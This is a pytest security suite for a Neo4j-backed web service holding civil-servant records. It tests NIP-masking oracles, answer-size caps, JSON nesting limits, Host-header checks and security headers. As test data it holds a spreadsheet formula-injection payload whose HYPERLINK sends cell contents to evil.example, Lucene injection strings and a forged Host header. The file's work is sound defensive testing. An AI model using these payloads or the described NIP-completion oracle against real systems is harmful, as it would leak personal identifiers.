"""Hostile HTTP: what an attacker tried against `pokin serve` with the sample loaded, each answered as it must be.

- Anonymous readers get only what the masking promises, through every endpoint: every GET route of the URL
  map (pages, `.json` twins, API lists, exports) and every named query of the catalog is tried with parts of
  a real NIP in each path variable and each query parameter, and must answer exactly as it answers for a
  string of digits that matches nothing (a difference is an oracle: a masked `197002**********84` was
  completed in 52 requests). A new endpoint or query that matches part of a NIP fails this test unchanged.
- The analyst's answer is bounded in bytes (POKIN_CYPHER_MAX_MB) while it is fetched, not after.
- The Host header is checked against POKIN_ALLOWED_HOSTS (DNS rebinding); absurd Hosts and JSON bodies or
  answers nested thousands deep get 4xx in the one error shape, never 500.
- Exports neutralise formula-looking header and value cells; every response carries the security headers,
  and answers `Cache-Control: no-store`.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest
from openpyxl import load_workbook
from test_service_support import AS_READER, assert_error, make_app

from service.config import ConfigError, normalise, settings_from_env

pytest_plugins = ("test_service_support",)

QUIET_PAGES = {
    "PAGES_QUERY_TIMEOUT": 120.0,
    "PAGES_AUDIT_BUDGET": 240.0,
    "PAGES_ACHIEVEMENT_TIMEOUT": 120.0,
    "PAGES_FINDING_TIMEOUT": 120.0,
}  # nothing of a page left to the background: answers stay comparable
ASSET_ENDPOINTS = {"static", "pages.asset"}
VARIABLE = re.compile(r"<(?:[^:>]+:)?([^>]+)>")


# -- the oracle test --------------------------------------------------------------------------------------------------


def _property_texts(runner) -> list[tuple[str, str]]:
    """(key, value as text) of every property of every node, list items one by one: read once, searched below in
    Python (a CONTAINS over every property in Cypher, once per candidate, took most of a minute)."""
    rows = runner.read(
        "MATCH (n) UNWIND keys(n) AS key "
        "UNWIND CASE WHEN n[key] IS :: LIST<ANY> THEN n[key] ELSE [n[key]] END AS x "
        "RETURN key, toString(x) AS text"
    )
    return [(row["key"], row["text"]) for row in rows]


def _elsewhere(texts: list[tuple[str, str]], text: str) -> int:
    """How many properties other than NIPs contain `text` (a probe must match NIPs only)."""
    return sum(1 for key, value in texts if key not in ("nip", "supervisor_nip") and text in value)


def _anywhere(texts: list[tuple[str, str]], text: str) -> int:
    return sum(1 for _key, value in texts if text in value)


def _probes(runner, nip: str) -> list[tuple[str, str]]:
    """(part of the NIP, a digit string of the same length found nowhere): the hidden ten digits, the first
    seventeen, the visible six plus two hidden ones, and all but the first five."""
    texts = _property_texts(runner)
    pairs = []
    for part in (nip[6:16], nip[:17], nip[:8], nip[5:]):
        assert _elsewhere(texts, part) == 0, f"{part} is not only part of a NIP in the sample"
        control = next(
            candidate
            for shift in range(1, 10)
            if not _anywhere(texts, candidate := "".join(str((int(d) + shift) % 10) for d in part))
        )
        pairs.append((part, control))
    return pairs


@pytest.fixture(scope="module")
def facts(sample) -> dict[str, Any]:
    """Real values from the sample: the probed NIP, another NIP, a unit, a goal, a year."""
    people = sample.read("MATCH (s:ASN)-[:MEMBER_OF]->(u:Unit) RETURN s.nip AS nip, u.id AS unit ORDER BY s.nip")
    goal = sample.read("MATCH (g:Goal)-[:MEASURED_BY]->() RETURN g.id AS id ORDER BY g.id LIMIT 1")[0]["id"]
    year = sample.read("MATCH (y:IndicatorYear) RETURN max(y.year) AS year")[0]["year"]
    target, other = people[len(people) // 2], people[len(people) // 3]
    return {
        "nip": target["nip"],
        "other_nip": other["nip"],
        "unit": other["unit"],
        "goal": goal,
        "year": year,
        "probes": _probes(sample, target["nip"]),
    }


def _path_values(facts: dict[str, Any]) -> dict[str, str]:
    """A value for each path variable that leads somewhere real (unknown variables get 'x')."""
    return {
        "unit": facts["unit"],
        "id": facts["goal"],
        "nip": facts["other_nip"],
        "name": "orphaned_staff",
        "suffix": "csv",
        "filename": "pokin-pages.css",
    }


def _url(rule: str, values: dict[str, str]) -> str:
    return VARIABLE.sub(lambda match: values.get(match.group(1), "x"), rule)


def _requests(app, facts: dict[str, Any], catalog) -> Iterator[tuple[str, str, dict[str, str]]]:
    """(label, url with {probe} where the probe goes, query string) for every GET route and every query."""
    real = _path_values(facts)
    text_params = sorted({param.name for query in catalog for param in query.params if param.type == "str"} | {"q"})
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        for variable in sorted(rule.arguments - set(rule.defaults or {})):
            yield f"{rule.rule} <{variable}>", _url(rule.rule, {**real, variable: "{probe}"}), {}
        # every text parameter any query knows, at once: one that matches part of a NIP changes the answer
        yield f"{rule.rule} ?{'&'.join(text_params)}", _url(rule.rule, real), dict.fromkeys(text_params, "{probe}")
    for query in catalog:
        if query.mode != "read":
            continue
        required = {param.name: _filler(param, facts) for param in query.params if not param.optional}
        for param in (param for param in query.params if param.type == "str"):
            flags = [param.name for param in query.params if param.type == "bool"]
            for flag_values in ({}, *({flag: "false"} for flag in flags), *({flag: "true"} for flag in flags)):
                for suffix in ("", ".csv"):
                    yield (
                        f"/api/queries/{query.name}{suffix} ?{param.name} {flag_values}",
                        f"/api/queries/{query.name}{suffix}",
                        {**required, **flag_values, param.name: "{probe}"},
                    )


def _filler(param, facts: dict[str, Any]) -> str:
    if param.type == "int":
        return str(facts["year"])
    if param.type == "float":
        return "1.0"
    return {"nip": facts["other_nip"], "unit": facts["unit"]}.get(param.name, facts["goal"])


def _answer(client, url: str, query: dict[str, str], probe: str, headers: dict[str, str] | None = None):
    response = client.get(
        url.replace("{probe}", probe),
        query_string={key: value.replace("{probe}", probe) for key, value in query.items()},
        headers=headers or {},
    )
    return response.status_code, response.get_data(as_text=True).replace(probe, "<probe>")


def test_anonymous_readers_cannot_match_part_of_a_nip_through_any_endpoint(sample, facts):
    app = make_app(sample, **QUIET_PAGES)
    client = app.test_client()
    requests = list(_requests(app, facts, app.extensions["pokin.catalog"]))
    assert len(requests) > 80  # every route, every query: not a handful of hand-picked URLs
    oracles, tried = [], 0
    for label, url, query in requests:
        # the hidden ten digits, and a prefix (six shown, two hidden): no longer than ten, as Neo4j plans a query
        # again for a longer string parameter (the whole sweep again); the search test below tries all four
        for part, control in (facts["probes"][0], facts["probes"][2]):
            found = _answer(client, url, query, part)
            nothing = _answer(client, url, query, control)
            tried += 1
            if found != nothing:
                oracles.append(f"{label} with {part}: {found[0]} vs {nothing[0]}: {found[1][:160]!r}")
            for secret in (facts["nip"], facts["other_nip"]):
                assert secret not in found[1], f"{label}: a full NIP in an anonymous answer"
    assert not oracles, (
        f"{len(oracles)} of {tried} requests tell a matching part of a NIP from a non-matching "
        "one:\n" + "\n".join(oracles[:20])
    )


@pytest.mark.parametrize("probe_index", [0, 1, 2, 3])
def test_the_search_endpoints_find_no_one_by_part_of_a_nip_but_do_by_the_whole(sample, facts, probe_index):
    """The attack as found (GET /api/queries/search?q=<digits>), and the proof the probes would match: with a
    token the same fragment finds the person."""
    client = make_app(sample, **QUIET_PAGES).test_client()
    part, _ = facts["probes"][probe_index]
    for url in ("/api/queries/search", "/api/queries/search.csv", "/cari.json"):
        response = client.get(url, query_string={"q": part})
        found = (
            response.get_json()["rows"]
            if url.endswith("search") or url.endswith(".json")
            else list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        )
        assert found == [], (url, part)
        with_token = client.get(url, query_string={"q": part}, headers=AS_READER).get_data(as_text=True)
        assert facts["nip"] in with_token, (url, part)
    rows = client.get("/api/queries/search", query_string={"q": facts["nip"]}).get_json()["rows"]
    assert [row["id"] for row in rows] == [facts["nip"][:6] + "*" * 10 + facts["nip"][-2:]]
    refused = client.get("/api/queries/search", query_string={"q": part, "nip_exact": "false"})
    assert "token" in assert_error(refused, 403)["error"]
    assert (
        client.get("/api/queries/search", query_string={"q": part, "nip_exact": "false"}, headers=AS_READER).status_code
        == 200
    )


# Lucene's query syntax typed into the search (it looks candidates up in a full-text index): each is text to
# look for, never an operator nor an error; the last is a text far longer than anything the index is asked.
LUCENE_TEXTS = ("a:b", "*", '"', "(", "\\", "*:*", "dinas*", "dinas OR kesehatan", "[a TO z]", "/.*/", "dinas~2")


@pytest.mark.parametrize("text", [*LUCENE_TEXTS, "kesehatan (" * 5000])
def test_lucene_syntax_in_a_search_is_text_not_an_operator(sample, text):
    client = make_app(sample, **QUIET_PAGES).test_client()
    for url, headers in (("/api/queries/search", {}), ("/cari.json", {}), ("/api/queries/search", AS_READER)):
        response = client.get(url, query_string={"q": text}, headers=headers)
        assert response.status_code == 200, (url, text, response.get_data(as_text=True)[:300])
        rows = response.get_json()["rows"]
        assert len(rows) <= 100
        for row in rows:  # each row contains the text as typed: `*` or `dinas*` did not match everything
            shown = " ".join(str(row.get(key) or "") for key in ("id", "title", "code")).lower()
            assert text.strip().lower() in shown, (url, text, row)


# -- the answer's size ------------------------------------------------------------------------------------------------


def test_one_huge_row_is_refused_not_sent(sample):
    client = make_app(sample).test_client()
    started = time.monotonic()
    # one record of a million 20-character strings (about 23 MB as JSON), within the range() bound
    response = client.post(
        "/api/cypher",
        json={"query": "RETURN [x IN range(1, 1000000) | $text] AS r", "params": {"text": "abcdefghij" * 2}},
        headers=AS_READER,
    )
    body = assert_error(response, 400)
    assert body["error"].startswith("answer too large") and "POKIN_CYPHER_MAX_MB" in body["error"]
    assert body["answer_cap_bytes"] == 16 * 1024 * 1024
    assert len(response.get_data()) < 2000
    assert time.monotonic() - started < 60


def test_the_answer_cap_stops_fetching_rows_once_it_is_reached(sample):
    """5,000 rows of 10 kB each (50 MB as JSON) against a 2 MB cap: refused, and the rows were never all in
    memory (the peak of Python allocations during the request stays far below the answer's size)."""
    client = make_app(sample, CYPHER_MAX_MB=2).test_client()
    # the 10 kB text comes as a parameter: reduce() (which could build it) is refused before it runs
    query = "UNWIND range(1, 5000) AS i RETURN i, $text AS text"
    params = {"text": "abcdefghij" * 1000}
    tracemalloc.start()
    try:
        response = client.post("/api/cypher", json={"query": query, "params": params}, headers=AS_READER)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    body = assert_error(response, 400)
    assert "more than 2097152 bytes" in body["error"]
    assert peak < 25 * 1024 * 1024, f"peak {peak / 1e6:.0f} MB while refusing"
    small = client.post(
        "/api/cypher", json={"query": query.replace("5000", "100"), "params": params}, headers=AS_READER
    )
    assert small.status_code == 200 and len(small.get_json()["rows"]) == 100
    as_csv = client.post("/api/cypher?format=csv", json={"query": query, "params": params}, headers=AS_READER)
    assert_error(as_csv, 400)


def test_the_answer_cap_is_configured_in_the_service_settings():
    assert normalise(settings_from_env({}))["CYPHER_MAX_MB"] == 16.0
    assert normalise(settings_from_env({"POKIN_CYPHER_MAX_MB": "0.5"}))["CYPHER_MAX_MB"] == 0.5
    for bad in ("lots", "0"):
        with pytest.raises(ConfigError, match="POKIN_CYPHER_MAX_MB"):
            normalise(settings_from_env({"POKIN_CYPHER_MAX_MB": bad}))


# -- nesting and absurd headers ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("depth", [33, 500, 5000, 100_000])
def test_deeply_nested_json_bodies_are_a_400(sample, depth):
    client = make_app(sample).test_client()
    for nested in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
        body = '{"query": "RETURN $a AS a", "params": {"a": ' + nested + "}}"
        error = assert_error(
            client.post("/api/cypher", data=body, content_type="application/json", headers=AS_READER), 400
        )
        assert "nested" in error["error"]


def test_nesting_within_the_limit_and_brackets_inside_strings_are_fine(sample):
    client = make_app(sample).test_client()
    params = {"a": json.loads("[" * 30 + "]" * 30), "s": "[[[[[[[[[[" * 100}
    response = client.post("/api/cypher", json={"query": "RETURN size($s) AS n", "params": params}, headers=AS_READER)
    assert response.status_code == 200 and response.get_json()["rows"] == [{"n": 1000}]


def test_an_answer_nested_thousands_deep_is_a_400(sample):
    """An answer nested deeper than 64 levels (a list literal 90 deep: within the query nesting limit given
    here; reduce(), which could nest thousands deep, is refused before it runs) is a 400, not a stack overflow."""
    client = make_app(sample, CYPHER_MAX_NESTING=120).test_client()
    query = "RETURN " + "[" * 90 + "1" + "]" * 90 + " AS deep"
    body = assert_error(client.post("/api/cypher", json={"query": query}, headers=AS_READER), 400)
    assert "nested" in body["error"]


# -- the Host header --------------------------------------------------------------------------------------------------


def test_an_unknown_host_gets_nothing(sample):
    client = make_app(sample).test_client()
    evil = {"Host": "evil.example"}
    for url in ("/api/queries", "/api/queries/search?q=dinas", "/beranda.json", "/api/health"):
        assert "Host" in assert_error(client.get(url, headers=evil), 400)["error"]
    page = client.get("/", headers=evil)
    assert page.status_code == 400 and page.mimetype == "text/html"
    assert "Dinas" not in page.get_data(as_text=True)
    assert_error(client.post("/api/cypher", json={"query": "RETURN 1 AS x"}, headers={**evil, **AS_READER}), 400)
    for host in ("localhost", "localhost:5000", "127.0.0.1:8080", "[::1]:5000", "LOCALHOST"):
        assert client.get("/api/queries", headers={"Host": host}).status_code == 200, host


def test_a_huge_host_is_a_431_not_a_500(sample):
    client = make_app(sample).test_client()
    huge = {"Host": "a" * 5000}
    for url in ("/api/queries", "/api/openapi.json", "/cari.json"):
        assert_error(client.get(url, headers=huge), 431)
    for url in ("/", "/pohon", "/no-such-page"):
        response = client.get(url, headers=huge)
        assert response.status_code == 431 and response.mimetype == "text/html", url


def test_allowed_hosts_are_configured_in_the_service_settings(sample):
    client = make_app(sample, ALLOWED_HOSTS="pokin.example.go.id").test_client()
    assert client.get("/api/queries", headers={"Host": "pokin.example.go.id:443"}).status_code == 200
    assert_error(client.get("/api/queries", headers={"Host": "localhost"}), 400)
    anything = make_app(sample, ALLOWED_HOSTS="*").test_client()
    assert anything.get("/api/queries", headers={"Host": "whatever.example"}).status_code == 200
    assert normalise(settings_from_env({}))["ALLOWED_HOSTS"] == ("localhost", "127.0.0.1", "[::1]")
    assert normalise(settings_from_env({"POKIN_ALLOWED_HOSTS": " A.example , [::1]"}))["ALLOWED_HOSTS"] == (
        "a.example",
        "[::1]",
    )
    for bad in ("https://a.example", "a.example:80", "a b", ",", "a.example/x"):
        with pytest.raises(ConfigError, match="POKIN_ALLOWED_HOSTS"):
            normalise(settings_from_env({"POKIN_ALLOWED_HOSTS": bad}))


# -- exports ----------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"klik")'
HOSTILE_EXPORT = (
    "RETURN 1 AS `" + FORMULA.replace("`", "``") + "`, '=1+1' AS `+plus`, '@SUM(A1)' AS value, "
    "-5 AS `-minus`, -2.5 AS negative, '-3' AS text_minus, 'a\u0001b' AS control"
)


def test_exports_neutralise_formula_headers_and_cells(sample):
    client = make_app(sample).test_client()
    response = client.post("/api/cypher?format=xlsx", json={"query": HOSTILE_EXPORT}, headers=AS_READER)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    header, row = [cell for cell in sheet[1]], [cell for cell in sheet[2]]
    assert [cell.data_type for cell in header] == ["s"] * 7  # no formula anywhere
    assert [cell.value for cell in header][:4] == ["'" + FORMULA, "'+plus", "value", "'-minus"]
    assert [cell.value for cell in row][:6] == [1, "'=1+1", "'@SUM(A1)", -5, -2.5, "'-3"]
    assert row[3].data_type == "n" and row[4].data_type == "n"
    text = (
        client.post("/api/cypher?format=csv", json={"query": HOSTILE_EXPORT}, headers=AS_READER)
        .get_data(as_text=True)
        .lstrip("\ufeff")
    )
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0][:4] == ["'" + FORMULA, "'+plus", "value", "'-minus"]
    assert lines[1][:6] == ["1", "'=1+1", "'@SUM(A1)", "-5", "-2.5", "'-3"]


# -- headers on every response ----------------------------------------------------------------------------------------


def test_every_response_carries_the_security_headers_and_answers_are_not_stored(sample, facts):
    app = make_app(sample, **QUIET_PAGES)
    client = app.test_client()
    real = _path_values(facts)
    seen = 0
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        values = {**real, "name": "pokin-pages.css"} if rule.endpoint == "pages.asset" else real
        for headers in ({}, AS_READER):
            response = client.get(_url(rule.rule, values), headers=headers)
            seen += 1
            where = (rule.rule, response.status_code)
            assert response.headers.get("X-Content-Type-Options") == "nosniff", where
            assert response.headers.get("X-Frame-Options") == "DENY", where
            assert "frame-ancestors 'none'" in response.headers.get("Content-Security-Policy", ""), where
            if rule.endpoint in ASSET_ENDPOINTS:
                assert response.status_code == 200 and "no-store" not in response.headers.get("Cache-Control", "")
            else:
                assert response.headers.get("Cache-Control") == "no-store", where
    assert seen > 60
    for response in (
        client.post("/api/cypher", json={"query": "RETURN 1 AS x"}, headers=AS_READER),
        client.post("/api/cypher?format=csv", json={"query": "RETURN 1 AS x"}, headers=AS_READER),
        client.get("/api/no-such-thing"),
        client.get("/api/queries", headers={"Host": "evil.example"}),
    ):
        assert response.headers["Cache-Control"] == "no-store"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"


def test_the_answer_estimate_follows_the_json_size():
    """The bound measures without encoding; its estimate must stay close to what JSON really takes."""
    from graph.db import AnswerBound

    values = [
        list(range(100_000)),
        [0.25 * i for i in range(10_000)],
        ["abc"] * 5_000,
        ["Kabupatèn"] * 1_000,
        [{"id": f"G-{i}", "weight": None, "tags": ["a", "b"], "ok": True} for i in range(2_000)],
        [[[1, 2], [3]]] * 1_000,
        "x" * 100_000,
    ]
    for value in values:
        real = len(json.dumps(value, separators=(",", ":")))  # ensure_ascii, as the service sends it
        estimate = AnswerBound(10**9)._size([value], 10**9)
        assert 0.8 * real <= estimate <= 1.5 * real, (str(value)[:40], estimate, real)
